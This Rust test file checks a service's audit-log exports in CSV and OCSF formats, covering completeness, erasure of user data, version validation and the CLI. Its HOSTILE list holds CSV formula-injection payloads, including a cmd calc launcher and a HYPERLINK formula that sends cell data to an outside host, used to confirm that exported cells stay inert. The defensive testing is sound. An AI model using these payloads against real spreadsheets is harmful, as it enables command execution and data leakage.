//! Exports as a table and in OCSF, read as those do who get them.

use std::{
    collections::BTreeSet,
    io::Write as _,
    process::{Command, Stdio},
    sync::LazyLock,
};

use serde_json::{Value, json};
use tonic::transport::Endpoint;

use super::{chained, export, organization};
use crate::{
    catalogue::everything::House,
    on_both_engines,
    support::{Caller, Engine, TestServer, bad_fields, root, text},
};

/// What somebody calls a thing who means harm to whoever opens a table.
const HOSTILE: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "'=1",
    "''",
    "\"=1",
    " =1",
    "a;=1+1",
    "a,\"@b\"",
    "\u{ff1d}1",
    "a| \u{ff0b}1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"more\")",
    "O'Brien; \u{fc}ber \"alles\", '-'",
];

/// A Python with the packages of these tests.
static PYTHON: LazyLock<String> = LazyLock::new(|| {
    let root = root();
    let requirements = root.join("tests/suite/audit/requirements.txt");
    let mut bring = Command::new(root.join("dev/python"));
    let found = bring.arg(requirements).stderr(Stdio::inherit()).output().unwrap();
    assert!(found.status.success(), "dev/python brings Python and its packages");
    String::from_utf8(found.stdout).unwrap().trim().to_owned()
});

/// What the reader in Python makes of an export.
async fn read(form: &'static str, file: Vec<u8>) -> Value {
    let reading = move || {
        let script = root().join("tests/suite/audit/formats.py");
        let mut reader = Command::new(&*PYTHON);
        let mut reader = reader.arg(script).arg(form).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let mut input = reader.stdin.take().unwrap();
        let writing = std::thread::spawn(move || input.write_all(&file));
        let read = reader.wait_with_output().unwrap();
        writing.join().unwrap().unwrap();
        assert!(read.status.success(), "the reader in Python failed");
        serde_json::from_slice(&read.stdout).unwrap()
    };
    tokio::task::spawn_blocking(reading).await.unwrap()
}

/// The events of a stream as its export as JSON lines has them.
async fn events(caller: &Caller, stream: &str) -> Vec<Value> {
    let file = export(caller, json!({"streamId": stream})).await;
    let lines = file.split(|byte| *byte == b'\n').filter(|line| !line.is_empty());
    let events = lines.map(|line| serde_json::from_slice::<Value>(line).unwrap()["data"]["event"].clone());
    events.filter(|event| !event.is_null()).collect()
}

fn of_format(stream: &str, format: &str) -> Value {
    json!({"streamId": stream, "format": format})
}

fn lines(file: &[u8]) -> Vec<Value> {
    let lines = file.split(|byte| *byte == b'\n').filter(|line| !line.is_empty());
    lines.map(|line| serde_json::from_slice(line).unwrap()).collect()
}

/// Whether a row of a table says all that the event says, to the character.
fn assert_row(row: &Value, event: &Value) {
    let cell = |name: &str| row[name].as_str().unwrap_or_else(|| panic!("no column {name}"));
    for (name, pointer) in [
        ("time", "/occurTime"),
        ("sequence", "/sequence"),
        ("event_id", "/eventId"),
        ("type", "/type"),
        ("tenant_id", "/tenantId"),
        ("organization_id", "/organizationId"),
        ("subject_kind", "/subject/kind"),
        ("subject_id", "/subject/id"),
        ("actor_id", "/actor/id"),
        ("actor_address", "/actor/address"),
        ("actor_user_agent", "/actor/userAgent"),
        ("request_id", "/requestId"),
        ("correlation_id", "/correlationId"),
        ("causation_id", "/causationId"),
        ("reason", "/reason"),
    ] {
        assert_eq!(cell(name), event.pointer(pointer).and_then(Value::as_str).unwrap_or_default(), "{name}");
    }
    let (_, data) = event
        .as_object()
        .unwrap()
        .iter()
        .find(|(name, value)| value.is_object() && !["subject", "actor"].contains(&name.as_str()))
        .expect("data");
    let mut said = json!({});
    for name in ["before", "after"].into_iter().filter(|name| !cell(name).is_empty()) {
        said[name] = serde_json::from_str(cell(name)).unwrap();
    }
    if !cell("data").is_empty() {
        let more: Value = serde_json::from_str(cell("data")).unwrap();
        said.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    }
    assert_eq!(said, *data);
}

/// An organization in which everything has a hostile name, and whoever did it, too.
async fn hostile_organization(server: &TestServer) -> String {
    let mut caller = server.root.clone();
    let (id, _) = organization(server, "hostile").await;
    for (index, name) in HOSTILE.iter().enumerate() {
        let agent = name.replace(|c: char| !c.is_ascii(), "");
        let endpoint = Endpoint::new(server.address.clone()).unwrap().user_agent(format!("{agent}\t{agent}")).unwrap();
        caller.client.channel = endpoint.connect_lazy();
        let team =
            json!({"organizationId": id, "name": name, "description": name, "requestId": format!("{name}{index}")});
        caller.call("TeamService/CreateTeam", team).await;
        let member = json!({"email": format!("m{index}@example.com"), "displayName": name, "metadata": {"n": name}});
        let added = json!({"organizationId": id, "member": member});
        let added = caller.call("MembershipService/AddMember", added).await;
        let which = json!({"organizationId": id, "membershipId": added["membership"]["membershipId"], "reason": name});
        caller.call("MembershipService/SuspendMembership", which).await;
        let policy = format!("// {name}\n//\t=1;\r\n//=cmd\npermit (principal, action, resource);");
        let policy = json!({"organizationId": id, "name": format!("p{index}"), "text": policy});
        caller.call("PolicyService/PutPolicy", json!({"policy": policy})).await;
    }
    chained(&server.root, &id).await;
    id
}

on_both_engines! {
    async fn a_table_says_all_to_the_character_and_no_cell_is_a_formula(server) {
        let id = hostile_organization(&server).await;
        let tenant = text(&server.root.events(&id).await[0]["tenantId"]);
        chained(&server.root, &tenant).await;
        for stream in [id, tenant] {
            let file = export(&server.root, of_format(&stream, "EXPORT_FORMAT_CSV")).await;
            assert!(file.starts_with(b"\"time\",\"sequence\",") && file.ends_with(b"\"\r\n"));
            let (rows, events) = (read("csv", file).await, events(&server.root, &stream).await);
            let rows = rows.as_array().unwrap();
            assert_eq!(rows.len(), events.len());
            rows.iter().zip(&events).for_each(|(row, event)| assert_row(row, event));
            assert!(rows.iter().any(|row| row["actor_kind"] == "api_key" && row["stream_epoch"] != ""));
            assert!(rows.iter().any(|row| text(&row["after"]).contains("calc")));
        }
    }

    async fn parts_follow_one_another_in_every_format(server) {
        let (id, _) = organization(&server, "acme").await;
        let part = |format: &str, after: i64, up_to: i64| {
            json!({"streamId": id, "format": format, "afterSequence": after.to_string(), "upToSequence": up_to.to_string()})
        };
        for format in ["EXPORT_FORMAT_CSV", "EXPORT_FORMAT_OCSF"] {
            let whole = export(&server.root, part(format, 0, 0)).await;
            let (first, rest) = (export(&server.root, part(format, 0, 3)).await, export(&server.root, part(format, 3, 0)).await);
            let header = if format == "EXPORT_FORMAT_CSV" { first.iter().position(|byte| *byte == b'\n').unwrap() + 1 } else { 0 };
            assert_eq!([&first[..], &rest[header..]].concat(), whole);
            assert_eq!(export(&server.root, part(format, 3, 3)).await.len(), header, "none");
        }
    }

    async fn whoever_was_erased_is_in_no_format(server) {
        let (id, user) = organization(&server, "acme").await;
        let tenant = text(&server.root.events(&id).await[0]["tenantId"]);
        let all = async || {
            let mut all = String::new();
            for stream in [&id, &tenant] {
                chained(&server.root, stream).await;
                for format in ["EXPORT_FORMAT_CSV", "EXPORT_FORMAT_OCSF"] {
                    all += &String::from_utf8(export(&server.root, of_format(stream, format)).await).unwrap();
                }
            }
            all
        };
        let before = all().await;
        assert!(before.contains("Z 7") && before.contains("grace@acme.example"));
        server.root.call("UserService/EraseUser", json!({"userId": user})).await;
        let after = all().await;
        assert!(!after.contains("Z 7") && !after.contains("grace@acme.example"));
        assert!(after.contains(&user));
    }

    async fn what_is_no_version_of_ocsf_is_refused_with_those_there_are(server) {
        let (id, _) = organization(&server, "acme").await;
        let name = "AuditService/ExportEvents";
        let mut request = of_format(&id, "EXPORT_FORMAT_OCSF");
        for version in ["1.0.0", "1.9.0", "1.8", "v1.8.0", " 1.8.0", "latest"] {
            request["ocsfVersion"] = json!(version);
            let status = server.root.refused(name, request.clone(), "INVALID_REQUEST").await;
            assert_eq!(bad_fields(&status), ["ocsf_version"]);
            assert!(String::from_utf8_lossy(status.details()).contains("1.1.0, 1.2.0, 1.3.0, 1.4.0, 1.5.0, 1.6.0, 1.7.0, 1.8.0"));
        }
        for format in ["EXPORT_FORMAT_UNSPECIFIED", "EXPORT_FORMAT_JSON_LINES", "EXPORT_FORMAT_CSV"] {
            let request = json!({"streamId": "x", "format": format, "ocsfVersion": "1.8.0"});
            let status = server.root.refused(name, request, "INVALID_REQUEST").await;
            assert_eq!(bad_fields(&status), ["stream_id", "ocsf_version"]);
        }
        let stranger = server.stranger().await;
        for format in ["EXPORT_FORMAT_CSV", "EXPORT_FORMAT_OCSF"] {
            stranger.refused(name, of_format(&id, format), "ORGANIZATION_NOT_FOUND").await;
        }
    }
}

/// Every event that there is, in every version, by its published schema.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_event_is_valid_in_every_version_of_ocsf() {
    let house = House::lived(Engine::Sqlite).await;
    let root = &house.server.root;
    let log = root.events("").await;
    let streams: BTreeSet<_> = log
        .iter()
        .map(|event| {
            [&event["organizationId"], &event["tenantId"]].map(text).into_iter().find(|id| !id.is_empty()).unwrap()
        })
        .collect();
    let (mut file, mut types) = (Vec::new(), BTreeSet::new());
    for stream in &streams {
        chained(root, stream).await;
        let events = events(root, stream).await;
        for version in roster::audit::export::ocsf::Version::all() {
            let mut request = of_format(stream, "EXPORT_FORMAT_OCSF");
            request["ocsfVersion"] = json!(version.to_string());
            let part = export(root, request).await;
            let lines = lines(&part);
            assert_eq!(lines.len(), events.len());
            for (line, event) in lines.iter().zip(&events) {
                assert_eq!(line["metadata"]["version"], version.to_string());
                assert_eq!(line["metadata"]["uid"], event["eventId"]);
                assert_eq!(line["metadata"]["sequence"].to_string(), text(&event["sequence"]));
                types.insert(text(&line["metadata"]["event_code"]));
                assert_told(line, event);
            }
            file.extend(part);
        }
        let default = export(root, of_format(stream, "EXPORT_FORMAT_OCSF")).await;
        assert_eq!(lines(&default)[0]["metadata"]["version"], "1.8.0");
    }
    assert_eq!(types, roster::events::TYPES.iter().map(|&name| name.to_owned()).collect());
    assert_mapped(&lines(&file));
    let read = read("ocsf", file).await;
    assert_eq!(read["faults"], json!([]));
    assert_eq!(read["versions"].as_array().unwrap().len(), 8);
    house.server.stop().await;
}

/// What some events are, in the oldest version and in the newest: class and activity together.
const MAPPED: [(&str, u64, u64); 14] = [
    ("user.created", 300_101, 300_101),
    ("user.suspended", 300_105, 300_105),
    ("user.erased", 300_199, 300_199),
    ("membership.created", 300_603, 300_603),
    ("membership.removed", 300_604, 300_604),
    ("membership.role_assigned", 300_501, 300_501),
    ("membership.role_revoked", 300_502, 300_502),
    ("team.created", 300_606, 300_606),
    ("team.member_added", 300_603, 300_603),
    ("team.role_assigned", 300_601, 300_601),
    ("organization.created", 300_401, 300_401),
    ("organization.suspended", 300_403, 300_412),
    ("resource.moved", 300_403, 300_405),
    ("api_key.revoked", 300_404, 300_404),
];

/// Whether events are what they are, and of whom.
fn assert_mapped(lines: &[Value]) {
    for (name, oldest, newest) in MAPPED {
        for (version, expected) in [("1.1.0", oldest), ("1.8.0", newest)] {
            let is_it =
                |line: &&Value| line["metadata"]["event_code"] == name && line["metadata"]["version"] == version;
            let line = lines.iter().find(is_it).unwrap();
            assert_eq!(line["type_uid"], expected, "{name} in {version}");
            let data = line["unmapped"].as_object().unwrap().values().find(|value| value.get("after").is_some());
            let after = data.map_or(&Value::Null, |data| &data["after"]);
            match expected / 100 {
                3001 => assert_eq!(line["user"]["uid"], line["unmapped"]["subject"]["id"]),
                3005 if name == "membership.role_assigned" => {
                    assert_eq!(line["user"]["uid"], after["userId"]);
                    assert_eq!(line["user"]["uid_alt"], after["membershipId"]);
                    assert_eq!(line["privileges"].as_array().unwrap().len(), 1);
                }
                3006 if name == "team.member_added" => assert_eq!(line["group"]["uid"], after["teamId"]),
                3006 if name == "membership.created" => assert_eq!(line["group"]["uid"], after["organizationId"]),
                _ => assert_eq!(line["severity"], "Informational"),
            }
        }
    }
}

/// Whether a line tells all that the event does, and nothing that is not of it.
fn assert_told(line: &Value, event: &Value) {
    let (mut told, mut said) = (BTreeSet::new(), BTreeSet::new());
    words(line, &mut told);
    words(event, &mut said);
    for word in &said {
        let kind = word.strip_prefix("EVENT_ACTOR_KIND_").is_some();
        let known = told.contains(word) || kind || *word == text(&event["sequence"]);
        assert!(known, "{}: {word:?} is not told", event["type"]);
    }
    let user = line["actor"]["user"].clone();
    assert!(user["uid"] == event["actor"]["id"] || !user["name"].is_null(), "{line}");
}

/// The texts within.
fn words(value: &Value, found: &mut BTreeSet<String>) {
    match value {
        Value::String(word) => drop(found.insert(word.clone())),
        Value::Array(values) => values.iter().for_each(|value| words(value, found)),
        Value::Object(fields) => fields.values().for_each(|value| words(value, found)),
        _ => {}
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_key_there_is_what_needs_no_proof() {
    let server = TestServer::with(Engine::Sqlite, |config| config.audit.key = None).await;
    let created = server.root.call("OrganizationService/CreateOrganization", json!({"slug": "acme"})).await;
    let id = text(&created["organization"]["organizationId"]);
    server.root.refused("AuditService/ExportEvents", json!({"streamId": id}), "NO_AUDIT_KEY").await;
    let wrong = json!({"streamId": id, "upToSequence": "-1"});
    server.root.refused("AuditService/ExportEvents", wrong, "INVALID_REQUEST").await;
    for format in ["EXPORT_FORMAT_CSV", "EXPORT_FORMAT_OCSF"] {
        export(&server.root, of_format(&id, format)).await;
    }
    server.stop().await;
}

/// The command, as somebody types it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_command_writes_every_format() {
    let server = TestServer::start(Engine::Sqlite).await;
    let (id, _) = organization(&server, "acme").await;
    let folder = tempfile::tempdir().unwrap();
    let (address, key) = (server.address.clone(), server.root.client.key.clone().unwrap());
    let run = |arguments: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_roster"));
        command.args(["audit", "export", &id]).args(arguments).current_dir(folder.path());
        command.env("ROSTER_ADDRESS", &address).env("ROSTER_KEY", &key);
        tokio::task::block_in_place(|| command.output().unwrap())
    };
    for (arguments, begins) in [
        (&["--format", "csv", "--output", "a.csv"][..], "\"time\","),
        (&["--format", "ocsf", "--ocsf-version", "1.1.0", "--output", "a.ocsf"], "{\"activity_id\""),
        (&["--output", "a.jsonl"], "{\"from\":1"),
    ] {
        let done = run(arguments);
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        let file = std::fs::read_to_string(folder.path().join(arguments.last().unwrap())).unwrap();
        assert!(file.starts_with(begins), "{}", &file[..80]);
    }
    let refused = run(&["--format", "ocsf", "--ocsf-version", "7", "--output", "b.ocsf"]);
    let said = String::from_utf8(refused.stderr).unwrap();
    assert!(!refused.status.success() && said.contains("ocsf_version: not one of 1.1.0"), "{said}");
    assert!(!folder.path().join("b.ocsf").exists());
    server.stop().await;
}
